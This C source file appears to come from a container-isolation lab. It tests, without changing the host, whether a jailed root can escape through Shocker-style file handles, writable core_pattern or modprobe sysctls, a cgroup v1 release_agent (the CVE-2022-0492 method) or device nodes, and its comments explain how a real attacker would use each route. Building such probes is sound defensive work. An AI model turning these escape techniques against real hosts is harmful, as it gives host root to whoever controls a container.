/* probe_door: the doors through which root of the initial user namespace
 * reaches the host from any mount namespace, each tried without changing
 * anything of the host:
 *
 *	probe_door handle MARKER HANDLE   open_by_handle_at(2) of the marker
 *	probe_door handle-of MARKER       (outside) print the marker's handle
 *	probe_door sysctl NAME            /proc/sys/kernel/NAME writable
 *	probe_door release_agent          a cgroup v1 release agent settable
 *	probe_door mknod                  a device node made and opened
 *
 * Each prints one line (probe.h): "ESCAPED <marker>" when it read the
 * marker, "OPEN (<what the kernel allowed>)" when it went through a door
 * that runs a program as host root or reaches a device, "contained (<why
 * not>)" otherwise.
 *
 * Writes leave the host as it was: a sysctl or a release agent gets back
 * the very value it had (the write is what the kernel checks), a cgroup
 * hierarchy the probe makes is its own and unmounted, the device node is
 * /dev/null's, made in /tmp of the jail and removed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "probe.h"

#define HANDLE_BYTES 128 /* MAX_HANDLE_SZ of <linux/exportfs.h> */

/* A file handle with room for any file system's (name_to_handle_at(2)). */
static struct file_handle *new_handle(void)
{
	struct file_handle *h = calloc(1, sizeof(*h) + HANDLE_BYTES);
	if (!h) {
		perror("probe_door: calloc");
		exit(2);
	}
	h->handle_bytes = HANDLE_BYTES;
	return h;
}

/* A handle as text: "TYPE:HEX". */
static int handle_of(const char *marker)
{
	struct file_handle *h = new_handle();
	unsigned char *bytes = (unsigned char *)(h + 1);
	int mount_id;
	if (name_to_handle_at(AT_FDCWD, marker, h, &mount_id, 0) < 0) {
		fprintf(stderr, "probe_door: name_to_handle_at(%s): %s\n", marker, strerror(errno));
		return 1;
	}
	printf("%d:", h->handle_type);
	for (unsigned i = 0; i < h->handle_bytes; i++)
		printf("%02x", bytes[i]);
	printf("\n");
	return 0;
}

/* "Shocker": a handle names a file by its file system and inode, not by a
 * path, so the jail's root does not apply.  The kernel lets only
 * CAP_DAC_READ_SEARCH in the initial user namespace open any handle. */
static int handle(const char *text)
{
	struct file_handle *h = new_handle();
	unsigned char *bytes = (unsigned char *)(h + 1);
	char *hex;
	h->handle_type = (int)strtol(text, &hex, 10);
	if (*hex++ != ':' || strlen(hex) % 2 || strlen(hex) / 2 > HANDLE_BYTES ||
	    strspn(hex, "0123456789abcdef") != strlen(hex)) {
		fprintf(stderr, "probe_door: bad handle %s (TYPE:HEX)\n", text);
		return 2;
	}
	h->handle_bytes = (unsigned)strlen(hex) / 2;
	for (unsigned i = 0; i < h->handle_bytes; i++)
		sscanf(hex + 2 * i, "%2hhx", &bytes[i]);
	/* Any descriptor on the marker's file system names it: the jail's
	 * root, which in this lab is a folder of that file system. */
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (root < 0)
		return contained("open /: %s", strerror(errno));
	int fd = open_by_handle_at(root, h, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return contained("open_by_handle_at: %s", strerror(errno));
	char path[64];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (!try_marker(path))
		return contained("opened by handle, unreadable: %s", strerror(errno));
	return 0;
}

/* Write back to path the value it holds: the write is what the kernel
 * checks, and the host keeps what it had.  Returns 1 when it could. */
static int rewrite(const char *path)
{
	char value[4096];
	int fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, value, sizeof(value));
	ssize_t w = n < 0 ? -1 : n == 0 ? write(fd, "\n", 1) : pwrite(fd, value, (size_t)n, 0);
	int saved = errno;
	close(fd);
	errno = saved;
	return n >= 0 && w == (n == 0 ? 1 : n);
}

/* A cgroup v1 hierarchy of the host to attach in a cgroup namespace of
 * our own: the options of the first line of /proc/self/cgroup that names
 * one ("4:cpu,cpuacct:/x" gives "cpu,cpuacct"; "1:name=systemd:/" gives
 * "none,name=systemd"). */
static int host_hierarchy(char *options, size_t size)
{
	char line[512];
	FILE *f = fopen("/proc/self/cgroup", "re");
	if (!f)
		return -1;
	int found = -1;
	while (found < 0 && fgets(line, sizeof(line), f)) {
		char *controllers = strchr(line, ':');
		char *end = controllers ? strchr(controllers + 1, ':') : NULL;
		if (!end || end == controllers + 1)
			continue; /* "0::/": cgroup v2 */
		*end = '\0';
		snprintf(options, size, "%s%s", strncmp(controllers + 1, "name=", 5) ? "" : "none,",
		         controllers + 1);
		found = 0;
	}
	fclose(f);
	return found;
}

/* core_pattern, modprobe, hotplug, poweroff_cmd: the kernel runs the
 * program they name as root of the initial namespaces (on a crash, a
 * missing binary format, a device event, a power button).  Writable is
 * enough: a real attacker writes a program of the jail there. */
static int sysctl(const char *name)
{
	char path[PATH_MAX];
	snprintf(path, sizeof(path), "/proc/sys/kernel/%s", name);
	if (!rewrite(path))
		return contained("write %s: %s", path, strerror(errno));
	printf("OPEN (%s written)\n", path);
	return 0;
}

/* CVE-2022-0492: a cgroup v1 hierarchy's release_agent runs as host root
 * when one of its cgroups empties.  Real root mounts a hierarchy of its own
 * (a named one, with no controller), so the host's are never touched.
 * Where that is refused, the way of that CVE: a mount and a cgroup
 * namespace of one's own, in which root of a user namespace may attach
 * one of the host's hierarchies and reach its release agent. */
static int release_agent(void)
{
	char dir[64], options[256], file[128];
	snprintf(dir, sizeof(dir), "/tmp/probe-cgroup-%d", (int)getpid());
	snprintf(options, sizeof(options), "none,name=vlab-probe-%d", (int)getpid());
	if (mkdir(dir, 0700) < 0)
		return contained("mkdir %s: %s", dir, strerror(errno));
	int mounted = mount("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, options);
	if (mounted < 0 && errno == EPERM && unshare(CLONE_NEWNS | CLONE_NEWCGROUP) == 0 &&
	    host_hierarchy(options, sizeof(options)) == 0)
		mounted = mount("cgroup", dir, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, options);
	if (mounted < 0) {
		int saved = errno;
		rmdir(dir);
		return contained("mount cgroup v1 (%s): %s", options, strerror(saved));
	}
	snprintf(file, sizeof(file), "%s/release_agent", dir);
	int written = rewrite(file);
	int saved = errno;
	umount2(dir, MNT_DETACH);
	rmdir(dir);
	if (!written)
		return contained("release_agent of cgroup v1 %s: %s", options, strerror(saved));
	printf("OPEN (cgroup v1 %s mounted, its release_agent written)\n", options);
	return 0;
}

/* A device node opens the device, whoever made it: a disk's node is the
 * whole disk.  /dev/null's numbers (1, 3) show the door harmlessly. */
static int device_node(void)
{
	char node[64];
	snprintf(node, sizeof(node), "/tmp/probe-null-%d", (int)getpid());
	if (mknod(node, S_IFCHR | 0600, makedev(1, 3)) < 0)
		return contained("mknod: %s", strerror(errno));
	int fd = open(node, O_WRONLY | O_CLOEXEC);
	int saved = errno;
	unlink(node);
	if (fd < 0)
		return contained("open the node: %s", strerror(saved));
	close(fd);
	printf("OPEN (a device node made and opened)\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *door = argc > 1 ? argv[1] : "";
	if (!strcmp(door, "handle-of") && argc == 3)
		return handle_of(argv[2]);
	if (!strcmp(door, "handle") && argc == 4 && argv[2][0] == '/')
		return handle(argv[3]);
	if (!strcmp(door, "sysctl") && argc == 3)
		return sysctl(argv[2]);
	if (!strcmp(door, "release_agent") && argc == 2)
		return release_agent();
	if (!strcmp(door, "mknod") && argc == 2)
		return device_node();
	fprintf(stderr,
	        "usage: probe_door handle MARKER TYPE:HEX | handle-of MARKER | sysctl NAME |"
	        " release_agent | mknod\n");
	return 2;
}
